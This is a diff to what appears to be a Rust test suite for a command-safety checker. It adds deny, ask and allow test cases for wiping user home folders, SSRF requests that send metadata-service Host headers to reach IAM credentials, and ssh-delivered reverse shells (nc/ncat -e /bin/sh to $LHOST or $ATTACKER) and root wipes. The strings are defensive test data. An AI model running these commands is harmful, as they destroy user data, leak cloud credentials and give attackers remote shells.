@@ -72,6 +72,10 @@ const FLOORS: &[(&str, f64)] = &[
     ("identity-file", 99.0),
     ("cli-globals", 99.0),
     ("benign-h-cmd8", 99.0),
+    ("homes-root", 99.0),
+    ("metadata-host-header", 99.0),
+    ("ssh-partly-dynamic", 99.0),
+    ("benign-h-cmd9", 99.0),
 ];
 
 fn rank(d: &str) -> u8 {
@@ -1344,6 +1348,113 @@ fn other_root_files() -> Vec<Base> {
     out
 }
 
+/// Principle (h-cmd9): the folder of every user's home (`/home`, `/Users`) and another user's
+/// home by shape (`/home/alex`, `/Users/alex`) are wide roots like `/` and the user's own home:
+/// a search-and-delete rooted there, filtered or not, and a recursive permission or owner change
+/// of one, lose homes.
+fn homes_roots() -> Vec<Base> {
+    let mut out = Vec::new();
+    for root in ["/home", "/Users", "/home/alex", "/Users/alex", "/home/ftp/"] {
+        for cmd in [
+            format!("find {root} -name core -exec rm {{}} \\;"),
+            format!("find {root} -type f -name '*.log' -exec rm -f {{}} +"),
+            format!("find {root} -type f -size +100M -delete"),
+            format!("find {root} -mtime +90 -delete"),
+            format!("find {root} -nouser -exec rm -rf {{}} +"),
+        ] {
+            out.push(b("homes-root", "deny", cmd));
+        }
+    }
+    for root in ["/home/alex", "/Users/alex", "/home/ftp"] {
+        for cmd in [
+            format!("chmod -R 777 {root}"),
+            format!("chmod -Rf 755 {root}/"),
+            format!("chown -R nobody:nogroup {root}"),
+            format!("rm -rf {root}"),
+        ] {
+            out.push(b("homes-root", "deny", cmd));
+        }
+    }
+    out
+}
+
+/// Principle (h-cmd9): a request whose `Host:` header names a metadata address asks the proxy in
+/// front of the URL's address for the metadata service (the SSRF probe): the same decision as a
+/// request to the address itself (credential paths deny, others ask).
+fn metadata_host_header() -> Vec<Base> {
+    let mut out = Vec::new();
+    for host in [
+        "169.254.169.254",
+        "metadata.google.internal",
+        "100.100.100.200",
+    ] {
+        for (path, expect) in [
+            ("/latest/meta-data/", "ask"),
+            ("/latest/meta-data/iam/security-credentials/", "deny"),
+        ] {
+            for cmd in [
+                format!("curl -s http://10.0.0.1{path} -H 'Host:{host}'"),
+                format!("curl -H \"Host: {host}\" http://203.0.113.9{path}"),
+                format!("curl --header 'host: {host}' https://app.example.com{path}"),
+            ] {
+                out.push(b("metadata-host-header", expect, cmd));
+            }
+        }
+    }
+    out
+}
+
+/// Principle (h-cmd9): a command given to `ssh` as several words, some of them values known only
+/// at run time, is still that program: the remote shell runs what the words spell, so a reverse
+/// shell or a wipe there is seen with its peer or path unknown.
+fn ssh_partly_dynamic() -> Vec<Base> {
+    let mut out = Vec::new();
+    for dest in [
+        "user@$ip",
+        "$HOST",
+        "-p 2222 root@${TARGET}",
+        "-i key.pem ubuntu@$1",
+    ] {
+        for cmd in [
+            format!("ssh {dest} nc $lhost 4444 -e /bin/sh"),
+            format!("ssh {dest} ncat $LHOST $LPORT -e /bin/bash"),
+            format!("ssh {dest} nc -e /bin/sh \"$ATTACKER\" 443"),
+            format!("ssh {dest} rm -rf / --no-preserve-root $X"),
+        ] {
+            out.push(b("ssh-partly-dynamic", "deny", cmd));
+        }
+    }
+    out
+}
+
+/// The benign neighbours of h-cmd9's classes: searches and deletes in the project or a temporary
+/// folder, listings of the homes' folder, a `Host:` header for a local virtual host.
+fn h_cmd9_benign() -> Vec<Base> {
+    [
+        "find . -name '*.pyc' -delete",
+        "find /home/dev/project -name '__pycache__' -exec rm -rf {} +",
+        "find /tmp -name '*.log' -mtime +7 -delete",
+        "find /home -maxdepth 1 -type d",
+        "find /home -name '*.pdf'",
+        "ls -la /home",
+        "ls /Users",
+        "chmod -R u+w build",
+        "chown -R $(id -u) ./node_modules",
+        "curl -H 'Host: example.com' http://127.0.0.1:8080/",
+        "curl -s -H 'Host: api.local' http://localhost:3000/health",
+        "curl -H 'Accept: application/json' https://api.github.com/repos/a/b",
+        "curl -H 'X-Forwarded-Host: example.com' http://localhost:8000/",
+        "ssh $HOST ls $DIR",
+        "ssh user@$ip uptime",
+        "ssh deploy@$SERVER systemctl status $SERVICE",
+        "ssh -p $PORT git@$GIT_HOST info",
+        "ssh $HOST tail -n 50 /var/log/$APP.log",
+    ]
+    .into_iter()
+    .map(|c| b("benign-h-cmd9", "allow", c.to_string()))
+    .collect()
+}
+
 /// Principle: the account databases include the groups (group(5), gshadow(5)); creating,
 /// changing or deleting a group or an account is an account change, by any of its tools.
 fn group_accounts() -> Vec<Base> {
@@ -1714,6 +1825,10 @@ fn generated_class_variants_get_their_decision() {
         identity_files(),
         cli_globals(),
         h_cmd8_benign(),
+        homes_roots(),
+        metadata_host_header(),
+        ssh_partly_dynamic(),
+        h_cmd9_benign(),
     ]
     .into_iter()
     .flatten()
